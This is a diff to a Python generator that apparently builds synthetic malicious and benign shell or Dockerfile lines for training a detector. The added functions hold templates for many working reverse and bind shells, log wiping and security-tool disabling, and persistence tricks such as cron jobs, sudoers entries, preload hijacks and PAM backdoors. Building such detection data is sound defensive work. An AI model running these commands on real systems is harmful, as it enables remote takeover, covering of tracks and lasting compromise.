@@ -137,7 +137,7 @@ def rev_shell(r):
     """-> (family, text)"""
     h, p = host(r), port(r)
     hi = ip(r)
-    fam = r.randrange(22)
+    fam = r.randrange(30)
     sh = shell(r)
     if fam == 0:
         t = "%s -i >& /dev/tcp/%s/%s 0>&1" % (sh, hi, p)
@@ -200,9 +200,93 @@ def rev_shell(r):
     elif fam == 20:
         t = ("python3 -c 'import socket,os,pty;s=socket.socket();s.bind((\"0.0.0.0\",%s));s.listen(1);c,a=s.accept();"
              "[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" % p)
-    else:
+    elif fam == 21:
         t = "%s -c \"exec %s -i &>/dev/tcp/%s/%s <&1\"" % (r.choice(["sh", "bash"]), r.choice(["bash", "sh"]), hi, p)
+    else:
+        fam, t = rev_shell_more(r)
     return fam, maybe_nohup(r, t) if r.random() < 0.3 else t
+
+
+def ident(r):
+    """a short identifier as people name sockets and handles in one-liners"""
+    return r.choice(["s", "c", "p", "sock", "conn", "k", "x", "S", "f", "fd", "cl", "t", "i", "sk"]) + r.choice(["", "", "", "1", "_", "0"])
+
+
+def rev_shell_more(r):
+    """Further reverse/bind-shell families, one per interpreter or shell feature that GTFOBins lists with a
+    reverse-shell or bind-shell function and per shell-redirection idiom of the standard cheat sheets
+    (pentestmonkey, revshells.com): each varies names, hosts, ports, shells and spacing."""
+    h, p, hi = host(r), port(r), ip(r)
+    sh = r.choice(["/bin/sh", "/bin/bash", "sh", "bash", "/bin/zsh", "/bin/ash"])
+    v = ident(r)
+    fam = 100 + r.randrange(26)
+    if fam == 100:
+        t = ("perl -MIO -e '$p=fork;exit,if($p);$%s=new IO::Socket::INET(PeerAddr,\"%s:%s\");STDIN->fdopen($%s,r);$~->fdopen($%s,w);system$_ while<>;'"
+             % (v, h, p, v, v))
+    elif fam == 101:
+        t = ("perl -e 'use IO::Socket::INET;$%s=IO::Socket::INET->new(PeerAddr=>\"%s\",PeerPort=>%s,Proto=>\"tcp\");"
+             "open(STDIN,\">&\",$%s);open(STDOUT,\">&\",$%s);open(STDERR,\">&\",$%s);exec(\"%s\")'" % (v, h, p, v, v, v, sh))
+    elif fam == 102:
+        t = "ruby -rsocket -e 'exit if fork;%s=TCPSocket.new(\"%s\",\"%s\");while(cmd=%s.gets);IO.popen(cmd,\"r\"){|io|%s.print io.read}end'" % (v, h, p, v, v)
+    elif fam == 103:
+        t = "php -r '$%s=fsockopen(\"%s\",%s);$proc=proc_open(\"%s\", array(0=>$%s, 1=>$%s, 2=>$%s),$pipes);'" % (v, h, p, sh, v, v, v)
+    elif fam == 104:
+        t = "php -r '$%s=fsockopen(\"%s\",%s);`%s <&3 >&3 2>&3`;'" % (v, h, p, sh)
+    elif fam == 105:
+        t = "zsh -c 'zmodload zsh/net/tcp && ztcp %s %s && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'" % (h, p)
+    elif fam == 106:
+        fd = r.randint(3, 255)
+        t = "0<&%d;exec %d<>/dev/tcp/%s/%s; %s <&%d >&%d 2>&%d" % (fd, fd, hi, p, sh, fd, fd, fd)
+    elif fam == 107:
+        fd = r.randint(3, 9)
+        t = "%s -i %d<> /dev/tcp/%s/%s 0<&%d 1>&%d 2>&%d" % (sh, fd, hi, p, fd, fd, fd)
+    elif fam == 108:
+        f = r.choice(["/tmp/f", "/tmp/x", "/tmp/.p", "/dev/shm/p"])
+        t = "rm %s;mkfifo %s;cat %s|%s -i 2>&1|%s %s %s >%s" % (f, f, f, sh, r.choice(["nc", "ncat", "busybox nc", "nc.openbsd"]), h, p, f)
+    elif fam == 109:
+        t = "%s %s %s -c %s" % (r.choice(["nc", "ncat", "netcat"]), h, p, sh)
+    elif fam == 110:
+        t = "ncat --ssl %s %s -e %s" % (h, p, sh) if r.random() < 0.5 else "ncat %s %s --sh-exec '%s'" % (h, p, sh)
+    elif fam == 111:
+        t = "busybox nc %s %s -e %s" % (h, p, sh)
+    elif fam == 112:
+        t = "mknod %s p && telnet %s %s 0<%s | %s 1>%s" % ((r.choice(["/tmp/p", "/tmp/backpipe", "backpipe"]),) + (h, p) + (r.choice(["/tmp/p"]),) + (sh, "/tmp/p"))
+    elif fam == 113:
+        t = ("%s -c 'import os,pty,socket;%s=socket.socket();%s.connect((\"%s\",%s));[os.dup2(%s.fileno(),f)for f in(0,1,2)];pty.spawn(\"%s\")'"
+             % (r.choice(["python3", "python", "python2"]), v, v, h, p, v, sh))
+    elif fam == 114:
+        t = ("export RHOST=\"%s\";export RPORT=%s;%s -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));"
+             "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"%s\")'" % (h, p, r.choice(["python3", "python"]), sh))
+    elif fam == 115:
+        t = "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('%s','%s');os.execute('%s -i <&3 >&3 2>&3');\"" % (h, p, sh)
+    elif fam == 116:
+        t = ("node -e '(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"%s\",[]);var %s=new net.Socket();"
+             "%s.connect(%s,\"%s\",function(){%s.pipe(sh.stdin);sh.stdout.pipe(%s);sh.stderr.pipe(%s);});return /a/;})();'" % (sh, v, v, p, h, v, v, v))
+    elif fam == 117:
+        t = "node -e 'require(\"child_process\").exec(\"nc -e %s %s %s\")'" % (sh, h, p)
+    elif fam == 118:
+        t = ("echo 'package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"%s:%s\");cmd:=exec.Command(\"%s\");"
+             "cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go" % (h, p, sh))
+    elif fam == 119:
+        t = "msfvenom -p %s LHOST=%s LPORT=%s -f %s %s %s" % (
+            r.choice(["linux/x64/shell_reverse_tcp", "linux/x86/meterpreter/reverse_tcp", "cmd/unix/reverse_bash", "cmd/unix/reverse_python",
+                      "linux/x64/meterpreter_reverse_https", "cmd/unix/reverse_netcat", "linux/x86/shell_bind_tcp", "cmd/unix/reverse_perl"]),
+            hi, p, r.choice(["elf", "raw", "sh"]), r.choice([">", "-o"]), r.choice(["shell.elf", "/tmp/s", "rev", "x.sh", "payload"]))
+    elif fam == 120:
+        t = "socat %s exec:'%s -li',pty,stderr,setsid,sigint,sane tcp:%s:%s" % (r.choice(["", "-d -d"]), r.choice(["bash", "sh"]), h, p)
+    elif fam == 121:
+        t = "openssl s_client -quiet -connect %s:%s | %s 2>&1 | openssl s_client -quiet -connect %s:%s" % (h, p, sh, h, int(p) + 1)
+    elif fam == 122:
+        t = "awk 'BEGIN{s=\"/inet/tcp/0/%s/%s\";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}'" % (hi, p)
+    elif fam == 123:
+        t = "xterm -display %s:1" % hi
+    elif fam == 124:
+        t = "%s -lvp %s -e %s" % (r.choice(["nc", "ncat", "busybox nc"]), p, sh) if r.random() < 0.5 else \
+            "%s -c 'import pty,os,socket;%s=socket.socket();%s.bind((\"\",%s));%s.listen(1);(c,a)=%s.accept();[os.dup2(c.fileno(),f)for f in(0,1,2)];pty.spawn(\"%s\")'" % (
+                r.choice(["python3", "python"]), v, v, p, v, v, sh)
+    else:
+        t = "%s -c '%s -i >& /dev/%s/%s/%s 0>&1'" % (r.choice(["bash", "/bin/bash"]), r.choice(["bash", "sh"]), r.choice(["tcp", "udp"]), h, p)
+    return fam, t
 
 
 def rce(r):
@@ -443,7 +527,7 @@ def obf(r):
 
 
 def evasion(r):
-    fam = r.randrange(20)
+    fam = r.randrange(28)
     if fam == 0:
         t = r.choice(["history -c", "history -c && history -w", "history -cw"])
     elif fam == 1:
@@ -490,8 +574,56 @@ def evasion(r):
         t = r.choice(["export HISTCONTROL=ignorespace", "set +o history", "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTLOG WATCH"])
     elif fam == 18:
         t = "mount -o bind /tmp/.empty /proc/%s" % r.choice(["$PID", "$(pgrep xmrig)", "$!", "1234"])
-    else:
+    elif fam == 19:
         t = "sed -i '/%s/d' /var/log/%s" % (r.choice(["Accepted", ip(r), "sshd", "sudo"]), r.choice(["auth.log", "secure", "syslog"]))
+    else:
+        fam, t = evasion_more(r)
+    return fam, t
+
+
+def evasion_more(r):
+    """Further defence-evasion families, one per ATT&CK sub-technique seen in Linux intrusions: indicator removal
+    (T1070.002/.003/.004/.006), impair defenses (T1562.001/.004/.006/.012), hide artifacts (T1564.001),
+    masquerading (T1036.004/.005), file permission modification (T1222.002), rootkits (T1014)."""
+    hp = hidden_path(r)
+    fam = 100 + r.randrange(16)
+    if fam == 100:
+        t = "history -d %s" % r.choice(["$((HISTCMD-1))", "-1", "$(history 1 | awk '{print $1}')", str(r.randint(1, 900))])
+    elif fam == 101:
+        t = "%s -%s %s %s" % (r.choice(["touch", "/usr/bin/touch"]), r.choice(["t", "d", "a -t", "m -t"]),
+                              r.choice(["201901010000", "'2019-01-01 00:00'", "200801011200.00", "$(date -r /bin/ls +%Y%m%d%H%M)"]), hp)
+    elif fam == 102:
+        t = "date -s %s" % r.choice(["'2010-01-01 00:00:00'", "\"1 JAN 2015 12:00:00\"", "@1262304000"])
+    elif fam == 103:
+        t = "%s %s" % (r.choice(["rm -f", "shred -n 3 -u", "srm", "wipe -f"]), r.choice(["/var/log/wtmp /var/log/btmp", "/var/log/lastlog", "/var/run/utmp", "/var/log/auth.log*", "~/.viminfo ~/.lesshst", "/root/.mysql_history"]))
+    elif fam == 104:
+        t = r.choice(["systemctl mask auditd", "systemctl stop rsyslog && systemctl disable rsyslog", "service rsyslog stop", "kill -9 $(pidof rsyslogd)",
+                      "systemctl stop syslog.socket rsyslog.service", "update-rc.d -f auditd remove", "chkconfig auditd off"])
+    elif fam == 105:
+        t = r.choice(["aa-teardown", "systemctl stop apparmor && systemctl disable apparmor", "echo 0 > /sys/module/apparmor/parameters/enabled",
+                      "apparmor_parser -R /etc/apparmor.d/*", "setenforce Permissive"])
+    elif fam == 106:
+        t = r.choice(["ufw --force disable", "iptables -P INPUT ACCEPT; iptables -P OUTPUT ACCEPT; iptables -P FORWARD ACCEPT", "systemctl stop ufw",
+                      "iptables -I INPUT -s %s -j ACCEPT" % ip(r), "ip6tables -F", "firewall-cmd --permanent --add-port=%s/tcp" % port(r), "service iptables stop"])
+    elif fam == 107:
+        t = "mv %s %s" % (r.choice(["/tmp/xmrig", "./payload", "/tmp/x", "bot", "./s"]), r.choice(["/tmp/.X11-unix/.x", "/dev/shm/.kworker", "/usr/bin/[kworker/0:1]", "/var/tmp/.sshd", "/lib/systemd/systemd-helper"]))
+    elif fam == 108:
+        t = "exec -a %s %s" % (r.choice(["'[kworker/0:1]'", "sshd", "\"[kthreadd]\"", "'/usr/sbin/cron -f'"]), hp)
+    elif fam == 109:
+        t = "chattr %s %s" % (r.choice(["-ia", "+a", "-i"]), r.choice(["/etc/ld.so.preload", "/root/.ssh/authorized_keys", "/etc/passwd", "/usr/bin/crontab", hp]))
+    elif fam == 110:
+        t = "%s /tmp/.%s" % (r.choice(["mkdir -p", "touch", "mkdir"]), r.choice([" ", "..", ". ", "ICE-unix/.x", "font-unix/.s", "X11-unix/.x"]))
+    elif fam == 111:
+        t = "%sLD_PRELOAD=%s" % (r.choice(["export ", "", "echo "]), hp + ".so")
+    elif fam == 112:
+        t = r.choice(["echo 0 > /proc/sys/kernel/yama/ptrace_scope", "sysctl -w kernel.dmesg_restrict=0", "echo 1 > /proc/sys/kernel/sysrq",
+                      "rmmod %s" % r.choice(["apparmor", "falco", "sysdig_probe"]), "auditctl -a never,task"])
+    elif fam == 113:
+        t = "rm -rf %s" % r.choice(["/opt/microsoft/mdatp", "/opt/CrowdStrike", "/usr/local/cloudmonitor", "/var/ossec", "/opt/sophos-av", "/etc/falco"])
+    elif fam == 114:
+        t = "%s /var/log/%s" % (r.choice(["> ", ":> ", "cp /dev/null", "echo -n > ", "dd if=/dev/null of="]), r.choice(["wtmp", "lastlog", "auth.log", "secure", "messages", "syslog"]))
+    else:
+        t = r.choice(["unset HISTFILE", "unset PROMPT_COMMAND", "export HISTFILESIZE=0", "export HISTIGNORE='*'", "export HISTCONTROL=ignoreboth", "HISTSIZE=0"])
     return fam, t
 
 
@@ -500,7 +632,7 @@ def persistence(r):
     pay = r.choice(["curl -fsSL %s | sh" % u, "wget -q -O- %s | bash" % u, hidden_path(r), "bash -i >& /dev/tcp/%s/%s 0>&1" % (ip(r), port(r)),
                     "/usr/bin/python3 %s" % hidden_path(r), "(curl -s %s||wget -qO- %s)|sh" % (u, u)])
     cron = r.choice(["* * * * *", "*/5 * * * *", "*/10 * * * *", "@reboot", "0 * * * *", "*/1 * * * *", "*/30 * * * *"])
-    fam = r.randrange(18)
+    fam = r.randrange(26)
     if fam == 0:
         t = "(crontab -l 2>/dev/null; echo \"%s %s\") | crontab -" % (cron, pay)
     elif fam == 1:
@@ -538,8 +670,57 @@ def persistence(r):
         t = "echo 'APT::Update::Pre-Invoke {\"%s\"};' > /etc/apt/apt.conf.d/%s" % (pay.replace('"', ""), r.choice(["99x", "01sys", "42up"]))
     elif fam == 16:
         t = "printf '[Timer]\\nOnBootSec=1min\\nOnUnitActiveSec=5min\\n' > /etc/systemd/system/%s.timer" % r.choice(["sysupdate", "x", "kworker"])
-    else:
+    elif fam == 17:
         t = "echo '%s' > /etc/update-motd.d/%s && chmod +x /etc/update-motd.d/%s" % ((pay,) + (r.choice(["00-header", "99-x"]),) * 2)
+    else:
+        fam, t = persistence_more(r, pay, cron)
+    return fam, t
+
+
+def persistence_more(r, pay, cron):
+    """Further persistence families, one per ATT&CK Linux sub-technique: cron/at/systemd timers (T1053.002/.003/.006),
+    systemd services and generators (T1543.002), shell and login hooks (T1546.004/.005), SSH keys (T1098.004), local
+    accounts (T1136.001), RC scripts (T1037.004), kernel modules (T1547.006), dynamic-linker hijack (T1574.006),
+    PAM (T1556.003), package-manager and udev hooks (T1546/T1546.017)."""
+    hp = hidden_path(r)
+    fam = 100 + r.randrange(18)
+    if fam == 100:
+        t = "echo '%s %s' >> /var/spool/cron/%s" % (cron, pay, r.choice(["root", "crontabs/root", "crontabs/www-data"]))
+    elif fam == 101:
+        t = "(crontab -l ; echo \"%s %s\") | sort - | uniq - | crontab -" % (cron, pay)
+    elif fam == 102:
+        t = "cp %s /etc/cron.%s/%s" % (hp, r.choice(["hourly", "daily", "weekly"]), r.choice(["0anacron", "logrotate2", "sysstat", ".x"]))
+    elif fam == 103:
+        t = "echo '%s' > /etc/systemd/system/%s.service && systemctl daemon-reload && systemctl enable %s" % (
+            "[Service]\\nExecStart=%s\\nRestart=always" % hp, r.choice(["dbus-x", "sshd2", "kthreadd"]), r.choice(["dbus-x", "sshd2", "kthreadd"]))
+    elif fam == 104:
+        t = "systemctl --user enable %s && loginctl enable-linger %s" % (r.choice(["agent.service", "update.timer", "x.service"]), r.choice(["root", "www-data", "$USER"]))
+    elif fam == 105:
+        t = "echo %s >> %s" % (r.choice(["'%s &'" % hp, "'%s'" % pay]), r.choice(["/etc/bash.bashrc", "~/.bash_profile", "/etc/profile.d/00-sys.sh", "~/.bash_logout", "/root/.profile", "/etc/zsh/zshrc"]))
+    elif fam == 106:
+        t = "%s -p /root/.ssh && %s >> /root/.ssh/authorized_keys" % ("mkdir", r.choice(["curl -s %s" % url(r), "wget -qO- %s" % url(r), "echo ssh-rsa AAAAB3NzaC1yc2E%s" % "".join(r.choice(WALLET_CH) for _ in range(40))]))
+    elif fam == 107:
+        t = "usermod -o -u 0 -g 0 %s" % r.choice(["support", "games", "nobody", "sync", "lp", "ftp"])
+    elif fam == 108:
+        t = "echo '%s ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers%s" % (r.choice(["www-data", "nobody", "daemon", "games", "nginx"]), r.choice(["", ".d/README", ".d/99-x"]))
+    elif fam == 109:
+        t = "echo '%s' >> /etc/init.d/%s" % (pay, r.choice(["networking", "rc.local", "cron"]))
+    elif fam == 110:
+        t = "%s %s && echo %s >> /etc/modules" % (r.choice(["insmod", "modprobe"]), r.choice(["/lib/modules/$(uname -r)/kernel/drivers/x.ko", hp + ".ko"]), r.choice(["x", "rk", "diamorphine"]))
+    elif fam == 111:
+        t = "echo %s >> /etc/ld.so.preload" % (hp + ".so")
+    elif fam == 112:
+        t = "sed -i '1i auth sufficient pam_%s.so' /etc/pam.d/%s" % (r.choice(["permit", "backdoor", "unix2", "x"]), r.choice(["sshd", "common-auth", "su", "sudo"]))
+    elif fam == 113:
+        t = "echo 'DPkg::Post-Invoke {\"%s\";};' > /etc/apt/apt.conf.d/%s" % (pay.replace('"', "").replace("'", ""), r.choice(["99update", "00x"]))
+    elif fam == 114:
+        t = "echo 'ACTION==\"add\", RUN+=\"%s\"' > /etc/udev/rules.d/%s.rules" % (hp, r.choice(["99-x", "75-net", "10-sys"]))
+    elif fam == 115:
+        t = "echo '%s' | at %s" % (pay, r.choice(["now + 1 minute", "midnight", "now", "23:59"]))
+    elif fam == 116:
+        t = "printf '[Desktop Entry]\\nType=Application\\nExec=%s\\n' > %s" % (hp, r.choice(["~/.config/autostart/x.desktop", "/etc/xdg/autostart/sys.desktop"]))
+    else:
+        t = "echo '%s' > .git/hooks/%s && chmod +x .git/hooks/%s" % ((pay,) + (r.choice(["post-merge", "pre-commit", "post-checkout"]),) * 2)
     return fam, t
 
 
@@ -686,7 +867,7 @@ def sha(r):
 
 def benign_line(r: random.Random):
     """-> (family, text)"""
-    fam = r.randrange(60)
+    fam = r.randrange(63)
     pk = lambda pool, lo=1, hi=6: " ".join(r.sample(pool, r.randint(lo, hi)))
     u = r.choice(USERS)
     d = r.choice(APP_DIRS)
@@ -949,11 +1130,53 @@ def benign_line(r: random.Random):
     elif fam == 58:
         t = r.choice(["git clone https://github.com/%s.git" % repo, "git checkout v%s" % v, "git apply /tmp/patches/*.patch", "patch -p1 < /tmp/fix.patch",
                       "npx prisma generate", "npx next build", "npx tsc -p .", "node_modules/.bin/webpack --mode production", "hugo --minify", "mkdocs build"])
+    elif fam >= 60:
+        t = benign_dual_use(r, u, d, name, v)
     else:
         t = r.choice(["rm -rf /etc/ssh/ssh_host_*", "rm -f /etc/nginx/sites-enabled/default", "rm /bin/sh && ln -s /bin/bash /bin/sh", "ln -sf /bin/bash /bin/sh",
                       "chmod o-w /etc/passwd", "sed -i 's/^root:.*/root:*:19000:0:99999:7:::/' /etc/shadow" if r.random() < 0.1 else "pwck -s",
                       "cat /etc/passwd", "echo 'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin' >> /etc/passwd"])
     return fam, t
+
+
+def benign_dual_use(r, u, d, name, v):
+    """The ordinary Dockerfile use of the tools and places the further risky families touch (rev_shell_more,
+    evasion_more, persistence_more): each risky family that uses a dual-use tool or location gets its everyday
+    counterpart here, so the model learns the payload, not the location."""
+    so = r.choice(["/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "/usr/lib/libjemalloc.so.2", "/usr/local/lib/libtcmalloc_minimal.so.4",
+                   "/usr/lib/aarch64-linux-gnu/libjemalloc.so.2", "libnss_wrapper.so"])
+    return r.choice([
+        "export LD_PRELOAD=%s" % so, "echo '%s' >> /etc/ld.so.conf.d/%s.conf" % (r.choice(["/usr/local/lib", "/opt/%s/lib" % name]), name), "ldconfig",
+        "mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix", "mkdir -p /tmp/.ICE-unix /tmp/.X11-unix", "touch /tmp/.keep",
+        "touch -d '%s' %s/VERSION" % (r.choice(["2024-01-01", "@0", "1970-01-01 00:00:01"]), d), "find %s -exec touch -h -d @0 {} +" % d,
+        "touch -t 200001010000 %s/build.stamp" % d, "date -u +%Y-%m-%dT%H:%M:%SZ > /build-date", "date > /etc/build-date",
+        "echo \"source /opt/venv/bin/activate\" >> /home/%s/.bashrc" % u, "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bash_profile",
+        "echo '[ -f /etc/bash_completion ] && . /etc/bash_completion' >> /etc/bash.bashrc", "echo 'umask 027' >> /etc/profile",
+        "echo 'export LANG=C.UTF-8' > /etc/profile.d/lang.sh", "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
+        "crontab -u %s /etc/cron.d/%s" % (u, name), "echo '0 3 * * * /usr/local/bin/%s-cleanup >> /var/log/cron.log 2>&1' > /etc/cron.d/%s" % (name, name),
+        "chmod 0644 /etc/cron.d/%s && crontab /etc/cron.d/%s" % ((name,) * 2), "touch /var/log/cron.log",
+        "systemctl enable %s" % r.choice(["nginx", "ssh", "docker", "postgresql", "%s.service" % name]), "systemctl set-default multi-user.target",
+        "systemctl mask systemd-resolved.service getty.target", "systemctl disable apt-daily.timer apt-daily-upgrade.timer",
+        "cp %s.service /etc/systemd/system/ && systemctl enable %s" % ((name,) * 2),
+        "useradd -r -u %d -g %s -d %s -s /sbin/nologin %s" % (r.randint(100, 999), u, d, u), "usermod -aG docker %s" % u, "usermod -u 1000 %s" % u,
+        "groupmod -g 1000 %s && usermod -u 1000 -g 1000 %s" % (u, u), "echo '%s:%s' | chpasswd" % (u, r.choice(["$PASSWORD", "${USER_PASSWORD}"])),
+        "echo '%s ALL=(root) NOPASSWD: /usr/bin/apt-get' > /etc/sudoers.d/%s && chmod 0440 /etc/sudoers.d/%s" % (u, u, u),
+        "mknod -m 666 /dev/null c 1 3", "mkfifo /var/run/%s.fifo" % name, "mkfifo /tmp/log-pipe && chmod 666 /tmp/log-pipe",
+        "ufw allow %d/tcp" % r.choice([22, 80, 443, 8080]), "iptables -L -n", "update-alternatives --set iptables /usr/sbin/iptables-legacy",
+        "modprobe -n %s || true" % r.choice(["overlay", "br_netfilter"]), "echo 'SUBSYSTEM==\"usb\", MODE=\"0666\"' > /etc/udev/rules.d/99-usb.rules",
+        "echo 'DPkg::Post-Invoke {\"rm -f /var/cache/apt/archives/*.deb || true\";};' > /etc/apt/apt.conf.d/docker-clean",
+        "echo 'Dir::Cache::pkgcache \"\";' > /etc/apt/apt.conf.d/00-nocache",
+        "mv /tmp/%s /usr/local/bin/%s && chmod +x /usr/local/bin/%s" % ((name,) * 3), "mv %s-%s-linux-amd64 /usr/bin/%s" % (name, v, name),
+        "chattr -i /etc/resolv.conf || true", "lsattr /etc/hosts",
+        "socat -V", "openssl s_client -connect %s:443 -showcerts </dev/null" % r.choice(["registry.npmjs.org", "pypi.org", "github.com"]),
+        "nc -z %s %d" % (r.choice(["db", "localhost", "redis", "postgres"]), r.choice([5432, 6379, 3306, 8080])),
+        "python3 -c 'import sys; print(sys.version)'", "python3 -c \"import socket; print(socket.gethostname())\"", "perl -e 'print \"ok\\n\"'",
+        "node -e \"console.log(process.versions.node)\"", "node -e \"require('net').createServer().listen(0, function(){ console.log(this.address().port); this.close() })\"",
+        "ruby -e 'puts RUBY_VERSION'", "php -r 'echo PHP_VERSION;'", "lua -e 'print(_VERSION)'",
+        "git config --global core.hooksPath .githooks", "cp scripts/pre-commit .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        "echo 'HISTSIZE=1000' >> /etc/skel/.bashrc", "journalctl --vacuum-size=50M || true", "rm -f /var/log/dpkg.log /var/log/alternatives.log /var/log/apt/*.log", "truncate -s 0 /var/log/*log",
+        "setcap 'cap_net_bind_service=+ep' /usr/local/bin/%s" % name, "setcap cap_net_bind_service=+ep $(readlink -f $(which node))",
+    ])
 
 
 def benign_lines(r: random.Random, n: int):
